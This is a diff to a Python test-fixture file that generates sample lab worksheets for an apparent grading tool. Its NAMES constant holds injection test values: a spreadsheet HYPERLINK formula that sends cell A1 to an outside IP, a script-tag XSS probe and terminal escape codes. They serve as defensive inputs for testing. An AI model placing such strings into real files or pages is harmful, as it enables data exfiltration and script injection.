@@ -128,8 +128,12 @@ def escapes_and_bomb(path):
     path.write_bytes(packed)
 
 
+def broken_worksheet(path):
+    write_files(path, {HEADER: HONEST})
+    write_sheet(path, **ANSWERS | {"forces_percent": "80 percent"})
+
+
 NAMES = "=HYPERLINK(\\\"http://192.0.2.1/\\\"&A1), <script>alert('attack_proof')</script>, \\033[31mRed\\007"
-BROKEN = ANSWERS | {"forces_percent": "80 percent"}
 MADE = {
     "whole_lab": whole_lab,
     "moodle_folder": from_moodle,
@@ -137,7 +141,7 @@ MADE = {
     "worksheet_only": lambda path: write_sheet(
         path, authors='"Ada Lovelace, Charles Babbage"', **ANSWERS
     ),
-    "worksheet_broken": lambda path: write_sheet(path, **BROKEN),
+    "worksheet_broken": broken_worksheet,
     "counts_calls": lambda path: write_sheet(path, authors=f'"{NAMES}"'),
 }
 
